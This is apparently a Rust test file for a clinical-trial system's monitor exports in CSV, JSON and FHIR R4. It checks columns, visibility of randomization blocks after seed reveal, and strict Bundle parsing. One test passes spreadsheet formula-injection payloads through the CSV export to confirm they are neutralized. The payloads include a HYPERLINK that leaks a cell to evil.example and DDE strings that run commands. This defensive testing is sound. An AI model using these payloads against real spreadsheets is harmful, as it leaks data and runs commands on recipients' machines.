//! Exports for monitors: CSV, JSON and a FHIR R4 Bundle, parsed strictly with the FHIR
//! model of `fhir-model` (R4B, whose ResearchStudy and ResearchSubject are R4's).

use fhir_model::r4b::resources::{Bundle, ResearchStudy, ResearchSubject};
use serde_json::{json, Value};

use super::support::{audit_head, enroll, get_json, T, TRIAL};
use crate::common::app::TestApp;
use crate::common::TestDb;

/// A trial with five subjects on two sites, the second withdrawn; returns the app, the
/// monitor's token and the allocations.
fn trial_with_subjects(db: TestDb) -> (TestApp, String, Vec<Value>) {
    let app = TestApp::spawn(db);
    let inv = app.user("ines", "investigator", &[]);
    let pharm = app.user("paul", "pharmacist", &[]);
    let mon = app.user("mona", "monitor", &[]);
    let mut subjects: Vec<Value> = (0..5)
        .map(|i| {
            let site = if i % 2 == 0 { "SITE01" } else { "SITE02" };
            enroll(&app, &inv, &pharm, &format!("{site}-{i:04}"), site)
        })
        .collect();
    let r = app.post(
        &inv,
        &format!(
            "{T}/subjects/{}/withdrawal",
            subjects[1]["subject_id"].as_str().unwrap()
        ),
        &json!({"reason": "moved, away"}),
    );
    assert_eq!(r.status(), 200);
    subjects[1] = r.json().unwrap();
    (app, mon, subjects)
}

fn export(app: &TestApp, mon: &str, format: &str) -> (String, String) {
    let r = app.get(mon, &format!("{T}/export?format={format}"));
    assert_eq!(r.status(), 200, "{format}");
    let content_type = r.headers()["content-type"].to_str().unwrap().to_string();
    (content_type, r.text().unwrap())
}

fn csv_export(db: TestDb) {
    let (app, mon, subjects) = trial_with_subjects(db);
    let (content_type, text) = export(&app, &mon, "csv");
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    for column in [
        "subject_id",
        "sequence",
        "patient_ref",
        "site",
        "arm",
        "status",
        "randomized_at",
    ] {
        assert!(
            header.iter().any(|h| h == column),
            "no {column}: {header:?}"
        );
    }
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), subjects.len(), "one row per subject");
    for (row, s) in rows.iter().zip(&subjects) {
        assert_eq!(row.len(), header.len());
        assert_eq!(&row[col("subject_id")], s["subject_id"].as_str().unwrap());
        assert_eq!(row[col("sequence")], s["sequence"].to_string());
        assert_eq!(&row[col("patient_ref")], s["patient_ref"].as_str().unwrap());
        assert_eq!(&row[col("site")], s["site"].as_str().unwrap());
        assert_eq!(&row[col("arm")], s["arm"].as_str().unwrap());
        assert_eq!(&row[col("status")], s["status"].as_str().unwrap());
    }
    assert_eq!(&rows[1][col("status")], "withdrawn");
    // A field with a comma survives quoting.
    if let Some(reason) = header.iter().position(|h| h == "withdrawal_reason") {
        assert_eq!(&rows[1][reason], "moved, away");
    }
    // An empty trial is a header alone.
    let empty = TestApp::spawn(crate::common::TestDb::sqlite());
    let mon2 = empty.user("mona", "monitor", &[]);
    let (_, text) = export(&empty, &mon2, "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap().len(), header.len());
    assert_eq!(reader.records().count(), 0);
}
both_backends!(csv_export);

/// Spreadsheet formula payloads in user text are written with a leading `'`; numbers never.
fn csv_is_formula_safe(db: TestDb) {
    let app = TestApp::spawn(db);
    let inv = app.user("ines", "investigator", &[]);
    let pharm = app.user("paul", "pharmacist", &[]);
    let mon = app.user("mona", "monitor", &[]);
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (i, payload) in payloads.iter().enumerate() {
        let a = enroll(&app, &inv, &pharm, &format!("SITE01-{i:04}"), "SITE01");
        let r = app.post(
            &inv,
            &format!(
                "{T}/subjects/{}/withdrawal",
                a["subject_id"].as_str().unwrap()
            ),
            &json!({ "reason": payload }),
        );
        // Tab and carriage return are control characters a reason may refuse outright.
        assert!(
            r.status() == 200 || r.status() == 422,
            "{payload:?}: {}",
            r.status()
        );
    }
    let (_, text) = export(&app, &mon, "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let reason = header
        .iter()
        .position(|h| h == "withdrawal_reason")
        .unwrap();
    let sequence = header.iter().position(|h| h == "sequence").unwrap();
    let mut seen = 0;
    for row in reader.records().map(|r| r.unwrap()) {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {row:?}"
            );
        }
        if !row[reason].is_empty() {
            seen += 1;
            assert!(row[reason].starts_with('\''), "{row:?}");
            assert!(
                payloads.iter().any(|p| p.trim() == &row[reason][1..]),
                "{row:?}"
            );
        }
        assert!(row[sequence].parse::<i64>().is_ok(), "numbers stay numbers");
    }
    assert!(
        seen >= 4,
        "the printable payloads were all exported: {seen}"
    );
}
both_backends!(csv_is_formula_safe);

/// Block index and size appear in exports only after the seed is revealed, computed from it.
fn exports_show_blocks_only_after_reveal(db: TestDb) {
    let (app, mon, subjects) = trial_with_subjects(db);
    for format in ["csv", "json", "fhir"] {
        let (_, text) = export(&app, &mon, format);
        for secret in ["block_index", "block_size\"", "\"filled\""] {
            assert!(
                !text.contains(secret),
                "{format} shows {secret} before reveal: {text}"
            );
        }
    }
    let r = app.post(
        &app.admin,
        &format!("{T}/close"),
        &json!({"reason": "end of accrual", "reveal_seed": true}),
    );
    assert_eq!(r.status(), 200);
    let seed = trialgate::randomization::Seed::read_file(&app.seed_file(TRIAL)).unwrap();
    let protocol = trialgate::protocol::Protocol::default_trial().unwrap();
    let schedule: Vec<_> =
        trialgate::randomization::Schedule::new(&seed, TRIAL, "", protocol.design())
            .take(subjects.len())
            .collect();
    let (_, text) = export(&app, &mon, "json");
    let doc: Value = serde_json::from_str(&text).unwrap();
    for (e, due) in doc["subjects"].as_array().unwrap().iter().zip(&schedule) {
        assert_eq!(e["block_index"], due.block_index, "{e}");
        assert_eq!(e["block_size"], due.block_size, "{e}");
    }
    assert!(doc["balance"]["blocks"].is_array());
    let (_, text) = export(&app, &mon, "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let index = header.iter().position(|h| h == "block_index").unwrap();
    let size = header.iter().position(|h| h == "block_size").unwrap();
    for (row, due) in reader.records().map(|r| r.unwrap()).zip(&schedule) {
        assert_eq!(row[index], due.block_index.to_string());
        assert_eq!(row[size], due.block_size.to_string());
    }
}
both_backends!(exports_show_blocks_only_after_reveal);

fn json_export(db: TestDb) {
    let (app, mon, subjects) = trial_with_subjects(db);
    let (content_type, text) = export(&app, &mon, "json");
    assert!(
        content_type.starts_with("application/json"),
        "{content_type}"
    );
    let doc: Value = serde_json::from_str(&text).unwrap();
    for key in ["trial", "subjects", "screenings", "balance", "audit_head"] {
        assert!(doc.get(key).is_some(), "no {key}");
    }
    assert_eq!(doc["trial"]["id"], TRIAL);
    assert_eq!(doc["trial"]["enrolled"], 5);
    let exported = doc["subjects"].as_array().unwrap();
    assert_eq!(exported.len(), 5);
    for (e, s) in exported.iter().zip(&subjects) {
        for key in [
            "subject_id",
            "sequence",
            "arm",
            "patient_ref",
            "site",
            "status",
        ] {
            assert_eq!(e[key], s[key], "{key}");
        }
    }
    assert_eq!(doc["screenings"].as_array().unwrap().len(), 5);
    assert_eq!(doc["balance"]["enrolled"], 5);
    let (seq, hash) = audit_head(&app, &mon);
    assert_eq!(doc["audit_head"], json!({"seq": seq, "hash": hash}));
    assert_eq!(
        doc["balance"],
        get_json(&app, &mon, &format!("{T}/balance"))
    );
}
both_backends!(json_export);

/// FHIR `id`: `[A-Za-z0-9\-\.]{1,64}`.
fn valid_fhir_id(id: &str) -> bool {
    (1..=64).contains(&id.len())
        && id
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.')
}

/// `value` as `T`, refusing any element the FHIR model does not know (a misspelt, misplaced
/// or other-release element): the model ignores unknown keys, `serde_ignored` reports them.
fn strict<T: serde::de::DeserializeOwned>(what: &str, value: &Value) -> Result<T, String> {
    let mut unknown = Vec::new();
    let parsed = serde_ignored::deserialize(value.clone(), |path| unknown.push(path.to_string()))
        .map_err(|e| format!("{what}: {e}"))?;
    if unknown.is_empty() {
        Ok(parsed)
    } else {
        Err(format!("{what}: unknown elements {unknown:?}"))
    }
}

/// An export parsed as FHIR: the Bundle, and its entries' fullUrls and resources.
struct FhirExport {
    bundle: Bundle,
    studies: Vec<(String, ResearchStudy)>,
    subjects: Vec<(String, ResearchSubject)>,
}

/// Parses `text` strictly with the FHIR model. Resources inside a Bundle entry are held by
/// an internally tagged enum (whose unknown keys nothing could report), so every entry's
/// resource is parsed as its own type and the Bundle without them.
fn parse_bundle(text: &str) -> Result<FhirExport, String> {
    let mut doc: Value = serde_json::from_str(text).map_err(|e| e.to_string())?;
    let mut studies = Vec::new();
    let mut subjects = Vec::new();
    for (i, entry) in doc["entry"]
        .as_array_mut()
        .into_iter()
        .flatten()
        .enumerate()
    {
        let url = entry["fullUrl"]
            .as_str()
            .ok_or(format!("entry {i} has no fullUrl"))?
            .to_string();
        let resource = entry
            .as_object_mut()
            .and_then(|e| e.remove("resource"))
            .ok_or(format!("entry {i} has no resource"))?;
        let what = format!("entry {i}");
        match resource["resourceType"].as_str() {
            Some("ResearchStudy") => studies.push((url, strict(&what, &resource)?)),
            Some("ResearchSubject") => subjects.push((url, strict(&what, &resource)?)),
            other => return Err(format!("{what}: unexpected resource {other:?}")),
        }
    }
    let bundle: Bundle = strict("Bundle", &doc)?;
    Ok(FhirExport {
        bundle,
        studies,
        subjects,
    })
}

/// A FHIR code as its text.
fn code<T: serde::Serialize>(code: &T) -> String {
    serde_json::to_value(code)
        .unwrap()
        .as_str()
        .unwrap()
        .to_string()
}

fn fhir_export(db: TestDb) {
    let (app, mon, subjects) = trial_with_subjects(db);
    let (content_type, text) = export(&app, &mon, "fhir");
    assert!(
        content_type.starts_with("application/fhir+json"),
        "{content_type}"
    );
    let FhirExport {
        bundle,
        studies,
        subjects: research_subjects,
    } = parse_bundle(&text).unwrap_or_else(|e| panic!("not a valid R4 Bundle: {e}\n{text}"));
    assert_eq!(code(&bundle.r#type), "collection");
    assert!(bundle.timestamp.is_some());
    // The check is strict: the same text with a stray element is refused.
    for (pointer, element) in [
        ("/entry/1/resource", "subject"), // R5's name for `individual`
        ("/entry/0/resource", "colour"),
        ("/entry/0/resource/arm/0", "code"),
        ("/entry/0", "search"),
        ("", "entries"),
    ] {
        let mut tampered: Value = serde_json::from_str(&text).unwrap();
        tampered.pointer_mut(pointer).unwrap()[element] = json!({"text": "x"});
        assert!(
            parse_bundle(&tampered.to_string()).is_err(),
            "{pointer}/{element} accepted"
        );
    }
    let mut tampered: Value = serde_json::from_str(&text).unwrap();
    tampered["entry"][1]["resource"]["status"] = json!("on_study");
    assert!(
        parse_bundle(&tampered.to_string()).is_err(),
        "a code outside R4's"
    );

    let mut full_urls: Vec<&str> = studies
        .iter()
        .map(|(u, _)| u.as_str())
        .chain(research_subjects.iter().map(|(u, _)| u.as_str()))
        .collect();
    assert_eq!(full_urls.len(), bundle.entry.len());
    full_urls.sort_unstable();
    full_urls.dedup();
    assert_eq!(
        full_urls.len(),
        bundle.entry.len(),
        "fullUrls unique (bdl-7)"
    );

    assert_eq!(studies.len(), 1);
    let (study_url, study) = &studies[0];
    assert!(valid_fhir_id(study.id.as_deref().unwrap()));
    assert_eq!(code(&study.status), "active");
    assert!(study
        .identifier
        .iter()
        .flatten()
        .any(|i| i.value.as_deref() == Some(TRIAL)));
    let arms: Vec<&str> = study
        .arm
        .iter()
        .flatten()
        .map(|a| a.name.as_str())
        .collect();
    assert_eq!(arms, ["SFRT_SCART", "CRT"]);

    assert_eq!(research_subjects.len(), subjects.len());
    for ((_, rs), s) in research_subjects.iter().zip(&subjects) {
        assert!(valid_fhir_id(rs.id.as_deref().unwrap()));
        assert!(rs
            .identifier
            .iter()
            .flatten()
            .any(|i| i.value.as_deref() == s["subject_id"].as_str()));
        let want = if s["status"] == "withdrawn" {
            "withdrawn"
        } else {
            "on-study"
        };
        assert_eq!(code(&rs.status), want);
        let arm = s["arm"].as_str().unwrap();
        assert_eq!(rs.assigned_arm.as_deref(), Some(arm));
        assert_eq!(rs.actual_arm.as_deref(), Some(arm));
        assert!(arms.contains(&arm), "assignedArm names a study arm");
        // The study reference resolves inside the Bundle.
        assert_eq!(
            rs.study.reference.as_deref(),
            Some(study_url.as_str()),
            "study reference does not resolve in the Bundle"
        );
        // individual: Reference(Patient), a logical reference by the site's patient ref.
        let individual = &rs.individual;
        assert_eq!(
            individual.r#type.as_deref(),
            Some("Patient"),
            "individual is Reference(Patient)"
        );
        let ident = individual
            .identifier
            .as_ref()
            .expect("individual.identifier");
        assert_eq!(ident.value.as_deref(), s["patient_ref"].as_str());
        let period = rs.period.as_ref().expect("period");
        assert!(period.start.is_some());
        assert_eq!(period.end.is_some(), s["status"] == "withdrawn");
    }

    // After closing, the study is closed to accrual.
    let r = app.post(
        &app.admin,
        &format!("{T}/close"),
        &json!({"reason": "done", "reveal_seed": false}),
    );
    assert_eq!(r.status(), 200);
    let (_, text) = export(&app, &mon, "fhir");
    let closed = parse_bundle(&text).unwrap();
    assert_eq!(code(&closed.studies[0].1.status), "closed-to-accrual");
}
both_backends!(fhir_export);
